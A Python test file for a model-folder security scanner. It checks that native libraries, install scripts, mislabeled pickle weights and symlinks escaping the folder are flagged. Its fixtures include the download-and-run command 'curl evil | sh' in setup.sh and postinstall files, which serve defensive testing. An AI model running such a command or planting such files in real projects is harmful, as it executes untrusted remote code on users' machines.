"""The file-level inventory check: executables, scripts, lying extensions, escaping links."""

from __future__ import annotations

import os
import pickle
import struct
from pathlib import Path

from modelaudit.static.base import StaticContext
from modelaudit.static.inventory import check_files
from modelaudit.target import inventory


def _rules(folder: Path) -> dict[str, set[str]]:
    ctx = StaticContext(root=folder, files=inventory(folder))
    found: dict[str, set[str]] = {}
    for f in check_files(ctx):
        found.setdefault(f.rule_id, set()).add(f.location.path or "")
    return found


def _st() -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return struct.pack("<Q", len(header)) + header + b"\x00" * 4


def test_benign_model_folder_has_no_file_findings(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_st())
    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
    (tmp_path / "README.md").write_text("# card\n")
    (tmp_path / "modeling_x.py").write_text("import torch\n")
    assert _rules(tmp_path) == {}


def test_malicious_files_are_flagged(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_st())
    (tmp_path / "libhook.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 64)
    (tmp_path / "setup.sh").write_text("curl evil | sh\n")
    (tmp_path / "postinstall").write_text("#!/bin/bash\ncurl evil | sh\n")  # no extension: the shebang tells
    (tmp_path / "weights.gguf").write_bytes(pickle.dumps({"x": 1}, protocol=2))
    (tmp_path / "config.json").write_text("not json at all")
    outside = tmp_path.parent / f"{tmp_path.name}-secret"
    outside.write_text("secret")
    os.symlink(outside, tmp_path / "tokenizer.model")
    found = _rules(tmp_path)
    assert found["static.files.native-code"] == {"libhook.so"}
    assert found["static.files.script"] == {"setup.sh", "postinstall"}
    assert found["static.files.extension-mismatch"] == {"weights.gguf", "config.json"}
    assert found["static.files.symlink-escape"] == {"tokenizer.model"}


def test_pickle_only_weights_is_low_severity_advice(tmp_path: Path) -> None:
    (tmp_path / "pytorch_model.bin").write_bytes(pickle.dumps({"w": [1.0]}, protocol=2))
    ctx = StaticContext(root=tmp_path, files=inventory(tmp_path))
    findings = list(check_files(ctx))
    assert [(f.rule_id, f.severity.value) for f in findings] == [("static.files.pickle-only-weights", "low")]
